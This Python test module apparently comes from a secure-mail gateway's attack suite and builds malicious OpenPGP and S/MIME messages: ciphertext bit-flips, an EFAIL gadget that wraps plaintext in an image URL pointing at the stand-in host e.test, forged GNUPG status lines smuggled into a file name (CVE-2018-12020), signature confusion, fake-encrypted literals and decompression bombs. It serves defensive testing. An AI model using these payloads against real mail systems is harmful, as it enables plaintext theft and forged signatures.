"""Attacks on the cryptographic layers: malleable ciphertext, what only looks encrypted, signatures that are not one."""

import base64
import os
from typing import Any

from asn1crypto import cms
from cryptography.hazmat.decrepit.ciphers.modes import CFB
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7

from gateway.domain.parties import Role, Suite
from tests.attacks.scene import SECRET, Scene, letter, wrapped

BLOCK = 16
LONG = f"{SECRET}\n" * 40
"""A letter in which ten blocks to change lie well inside the text."""


# --- A2: malleable ciphertext


def _flipped(block: int) -> Any:
    async def maker(acted: Scene) -> bytes:
        inside = await acted.signed(letter(text=LONG), suite=Suite.SMIME)
        at = (inside.index(SECRET.encode()) // BLOCK + 1 + 3 * block) * BLOCK
        envelope = await acted.encrypted(inside, Suite.SMIME)
        return wrapped(_changed(envelope, at), Suite.SMIME)

    maker.__module__ = __name__
    return maker


a2_smime_block_0, a2_smime_block_1, a2_smime_block_2 = _flipped(0), _flipped(1), _flipped(2)
a2_smime_block_3, a2_smime_block_4, a2_smime_block_5 = _flipped(3), _flipped(4), _flipped(5)
a2_smime_block_6, a2_smime_block_7, a2_smime_block_8 = _flipped(6), _flipped(7), _flipped(8)
a2_smime_block_9 = _flipped(9)


def _content(envelope: bytes) -> tuple[Any, Any]:
    info = cms.ContentInfo.load(envelope)
    return info, info["content"]["encrypted_content_info"]


def _changed(envelope: bytes, at: int) -> bytes:
    """One bit of the ciphertext: this block becomes noise, the next one changes where the attacker wants."""
    info, content = _content(envelope)
    data = bytearray(content["encrypted_content"].native)
    data[at] ^= 1
    content["encrypted_content"] = bytes(data)
    return bytes(info.dump(force=True))


async def a2_smime_gadget(acted: Scene) -> bytes:
    """EFAIL: from the first block, which everybody knows, markup is built around the rest of the ciphertext."""
    inside = await acted.signed(letter(), suite=Suite.SMIME)
    info, content = _content(await acted.encrypted(inside, Suite.SMIME))
    algorithm = content["content_encryption_algorithm"]
    iv, data, known = algorithm["parameters"].native, content["encrypted_content"].native, inside[:BLOCK]
    # The first block is wholly the attacker's, header and all; noise stands between the others.
    gadgets = [b"A:b\r\n\r\n<img src=", b'"http://e.test/?']

    def becomes(wanted: bytes) -> bytes:
        return bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted.ljust(BLOCK)[:BLOCK], strict=True))

    algorithm["parameters"] = becomes(gadgets[0])
    more = b"".join(becomes(gadget) + data[:BLOCK] for gadget in gadgets[1:])
    content["encrypted_content"] = data[:BLOCK] + more + data
    return wrapped(bytes(info.dump(force=True)), Suite.SMIME)


async def a2_smime_gcm_flip(acted: Scene) -> bytes:
    """One bit under AES-GCM, which has integrity of its own."""
    envelope = await acted.encrypted(await acted.signed(letter(), suite=Suite.SMIME), Suite.SMIME, partner="cnas")
    info = cms.ContentInfo.load(envelope)
    inside = info["content"]["auth_encrypted_content_info"]
    data = bytearray(inside["encrypted_content"].native)
    data[40] ^= 1
    inside["encrypted_content"] = bytes(data)
    return wrapped(bytes(info.dump(force=True)), Suite.SMIME)


async def a2_openpgp_flip(acted: Scene) -> bytes:
    """One bit of a message with integrity."""
    packets = bytearray(_bytes_of(acted.gpg_to_us("--compress-algo", "none", data=await acted.signed(letter()))))
    packets[-60] ^= 1
    return wrapped(_armoured(bytes(packets)))


async def a2_openpgp_cut(acted: Scene) -> bytes:
    """Its integrity code is cut off."""
    packets = _bytes_of(acted.gpg_to_us("--compress-algo", "none", data=await acted.signed(letter())))
    return wrapped(_armoured(packets[:-22]))


async def a2_openpgp_without_integrity(acted: Scene) -> bytes:
    """The old packet, of which gpg hands out the whole plaintext while it says that it failed."""
    content = await acted.signed(letter(text="Refus.\n"))
    message = acted.gpg_to_us("--cipher-algo", "AES256", "--compress-algo", "none", "--show-session-key", data=content)
    ours = acted.gpg(Role.HOSPITAL, "--show-session-key", "--status-fd", "1", "--output", os.devnull, data=message)
    session = next(line for line in ours.decode().splitlines() if " SESSION_KEY " in line).split()[2]
    key = AES(bytes.fromhex(session.partition(":")[2]))
    literal = b"b\0" + bytes(4) + content
    packet = b"\xcb\xff" + len(literal).to_bytes(4, "big") + literal
    prefix = bytes(range(BLOCK))
    head = Cipher(key, CFB(bytes(BLOCK))).encryptor().update(prefix + prefix[-2:])
    body = head + Cipher(key, CFB(head[2:18])).encryptor().update(packet)
    packets = _bytes_of(message)
    return wrapped(_armoured(packets[: 2 + packets[1]] + b"\xc9\xff" + len(body).to_bytes(4, "big") + body))


async def a2_openpgp_small_blocks(acted: Scene) -> bytes:
    """3DES."""
    return wrapped(acted.gpg_to_us("--cipher-algo", "3DES", data=await acted.signed(letter())))


def _armoured(packets: bytes) -> bytes:
    text = base64.encodebytes(packets)
    return b"-----BEGIN PGP MESSAGE-----\n\n" + text + b"-----END PGP MESSAGE-----\n"


def _bytes_of(armoured: bytes) -> bytes:
    lines = armoured.split(b"\n\n", 1)[1].splitlines()
    return base64.b64decode(b"".join(line for line in lines if not line.startswith((b"=", b"-"))))


# --- A5, A13: not exactly one signature


def _smime_signature(acted: Scene, entity: bytes, *signers: Role | None, detached: bool = True) -> bytes:
    builder = pkcs7.PKCS7SignatureBuilder().set_data(entity)
    for signer in signers:
        own = acted.of(signer).own
        builder = builder.add_signer(own.certificate, own.key, hashes.SHA256())
    options = [pkcs7.PKCS7Options.Binary] + [pkcs7.PKCS7Options.DetachedSignature] * detached
    return builder.sign(Encoding.DER, options)


async def _by_smime(acted: Scene, entity: bytes, signature: bytes) -> bytes:
    from gateway.wire import sealed

    inside = sealed.signed(entity, signature, "sha-256", "signe", Suite.SMIME)
    return wrapped(await acted.encrypted(inside, Suite.SMIME), Suite.SMIME)


async def a5_content_inside(acted: Scene) -> bytes:
    """The signature brings a content of its own along; which of the two is read?"""
    refusal = letter(text="Refus.\n")
    return await _by_smime(acted, letter(), _smime_signature(acted, refusal, Role.CNAS, detached=False))


async def a5_same_content_inside(acted: Scene) -> bytes:
    """Even where it is the same."""
    return await _by_smime(acted, letter(), _smime_signature(acted, letter(), Role.CNAS, detached=False))


async def a5_two_signers(acted: Scene) -> bytes:
    """The partner's good signature, and a stranger's."""
    return await _by_smime(acted, letter(), _smime_signature(acted, letter(), Role.CNAS, None))


async def a5_no_signer(acted: Scene) -> bytes:
    """A SignedData that nobody signed: openssl verifies it."""
    info = cms.ContentInfo.load(_smime_signature(acted, letter(), Role.CNAS))
    info["content"]["signer_infos"] = []
    return await _by_smime(acted, letter(), bytes(info.dump(force=True)))


async def a5_strangers_certificate_beside(acted: Scene) -> bytes:
    """A stranger signs under his own certificate, made out in the partner's name."""
    return await acted.sealed(letter(), None, Suite.SMIME)


async def a5_opaque(acted: Scene) -> bytes:
    """Signed data in the place of an envelope."""
    return wrapped(_smime_signature(acted, letter(), Role.CNAS, detached=False), Suite.SMIME)


async def a5_garbage(acted: Scene) -> bytes:
    """A structure of nothing but open sequences, on which parsers have crashed."""
    return await _by_smime(acted, letter(), b"\x30\x80" * 200 + b"\0\0" * 200)


async def a13_partner_and_stranger(acted: Scene) -> bytes:
    """Two detached signatures, the partner's last."""
    return _signed_twice(acted, None, Role.CNAS)


async def a13_stranger_last(acted: Scene) -> bytes:
    """The same two in the other order."""
    return _signed_twice(acted, Role.CNAS, None)


async def a13_partner_twice(acted: Scene) -> bytes:
    """Both by the partner."""
    return _signed_twice(acted, Role.CNAS, Role.CNAS)


async def a13_two_one_pass(acted: Scene) -> bytes:
    """Signed and encrypted in one go, by two partners together."""
    for each in (Role.CNAS, Role.CNSE):
        acted.gpg(None, "--import", data=acted.gpg(each, "--export-secret-keys", data=b""))
    both = [acted.keys[each].openpgp.fingerprint for each in (Role.CNSE, Role.CNAS)]
    by = [option for each in both for option in ("--local-user", f"{each}!")]
    return wrapped(acted.gpg_to_us(*by, "--sign", data=letter(), by=None))


def _signed_twice(acted: Scene, *signers: Role | None) -> bytes:
    blocks = [_bytes_of(acted.gpg(each, "--detach-sign", data=letter())) for each in signers]
    return _with_signature(acted, _armoured(b"".join(blocks)).replace(b"PGP MESSAGE", b"PGP SIGNATURE"))


def _with_signature(acted: Scene, armour: bytes) -> bytes:
    from gateway.wire import sealed

    inside = sealed.signed(letter(), armour, "pgp-sha512", "signe")
    return wrapped(acted.gpg_to_us("--compress-algo", "none", data=inside))


# --- A6: words that look like status lines


async def a6_status_in_the_file_name(acted: Scene) -> bytes:
    """CVE-2018-12020: an unsigned message whose file name says GOODSIG and VALIDSIG."""
    signer = acted.keys[Role.CNAS].openpgp.fingerprint
    name = (
        f"x\n[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG {signer[-16:]} CNAS\n[GNUPG:] VALIDSIG {signer} 2026-01-25 "
        f"1769331600 0 4 0 22 10 00 {signer}\n[GNUPG:] TRUST_FULLY 0 pgp"
    )
    return wrapped(acted.gpg_to_us("--set-filename", name, data=letter()))


async def a6_status_in_the_text(acted: Scene) -> bytes:
    """The same in the text, for whoever reads status lines from the output."""
    return wrapped(acted.gpg_to_us(data=b"[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 0 CNAS\n" + letter()))


async def a6_message_as_signature(acted: Scene) -> bytes:
    """A whole signed message in the place of the signature attests its own text, not the letter."""
    other = acted.gpg(Role.CNAS, "--sign", data=b"autre texte").replace(b"PGP MESSAGE", b"PGP SIGNATURE")
    return _with_signature(acted, other)


async def a6_name_of_a_signed_message(acted: Scene) -> bytes:
    """A stranger signs, and his literal's name says that the partner did."""
    signer = acted.keys[Role.CNAS].openpgp.fingerprint
    name = f"x\n[GNUPG:] GOODSIG {signer[-16:]} CNAS\n"
    return wrapped(acted.gpg_to_us("--set-filename", name, "--sign", data=letter(), by=None))


# --- A8: what only looks encrypted


async def a8_literal(acted: Scene) -> bytes:
    """A bare literal packet, which gpg "decrypts" without a word."""
    return wrapped(acted.gpg(Role.CNAS, "--store", "--compress-algo", "none", data=await acted.signed(letter())))


async def a8_compressed(acted: Scene) -> bytes:
    """The same, compressed."""
    return wrapped(acted.gpg(Role.CNAS, "--store", "--compress-algo", "zlib", data=await acted.signed(letter())))


async def a8_signed_only(acted: Scene) -> bytes:
    """Signed by the partner, encrypted to nobody."""
    return wrapped(acted.gpg(Role.CNAS, "--sign", data=letter()))


async def a8_symmetric(acted: Scene) -> bytes:
    """By a passphrase, which happens to be ours."""
    return wrapped(acted.gpg(Role.CNAS, "--symmetric", data=await acted.signed(letter())))


async def a8_symmetric_too(acted: Scene) -> bytes:
    """To our key and by a passphrase: whoever knows the phrase reads it."""
    return wrapped(acted.gpg_to_us("--symmetric", data=await acted.signed(letter())))


async def a8_not_signed(acted: Scene) -> bytes:
    """Encrypted to us, as anybody can."""
    return wrapped(acted.gpg_to_us(data=letter()))


async def a8_smime_not_signed(acted: Scene) -> bytes:
    """The same in S/MIME."""
    return wrapped(await acted.encrypted(letter(), Suite.SMIME), Suite.SMIME)


async def a8_mixed_suites(acted: Scene) -> bytes:
    """Signed in the one suite, sealed in the other."""
    inside = await acted.signed(letter(), suite=Suite.SMIME)
    return wrapped(acted.gpg_to_us("--compress-algo", "none", data=inside))


# --- A14: weak, and for somebody else


async def a14_sha1(acted: Scene) -> bytes:
    """A digest of which collisions exist; gpg calls the signature good."""
    weak = acted.gpg(Role.CNAS, "--digest-algo", "SHA1", "--detach-sign", data=letter())
    return _with_signature(acted, weak)


async def a14_changed_text(acted: Scene) -> bytes:
    """One word."""
    inside = (await acted.signed(letter())).swap(b"Accord", b"Accorb")
    return wrapped(acted.gpg_to_us("--compress-algo", "none", data=inside))


# --- A24: ciphertexts that grow


async def a24_bomb(acted: Scene) -> bytes:
    """Sixty megabytes of zeros in some kilobytes."""
    return wrapped(acted.gpg_to_us("--compress-algo", "bzip2", data=bytes(60 * 1024 * 1024)))


async def a24_rounds(acted: Scene) -> bytes:
    """A literal compressed a hundred times over."""
    import zlib

    packet = b"\xcb\xff" + (6 + 5).to_bytes(4, "big") + b"b\0" + bytes(4) + b"Refus"
    for _ in range(100):
        packer = zlib.compressobj(wbits=-15)
        squeezed = b"\x01" + packer.compress(packet) + packer.flush()
        packet = b"\xc8\xff" + len(squeezed).to_bytes(4, "big") + squeezed
    return wrapped(acted.gpg_to_us("--no-literal", "--compress-algo", "none", data=packet))


async def a24_many_packets(acted: Scene) -> bytes:
    """Thousands of literals, each with a status line of its own."""
    literal = b"\xcb\x07b\0" + bytes(4) + b"x"
    return wrapped(acted.gpg_to_us("--no-literal", "--compress-algo", "none", data=literal * 5000))
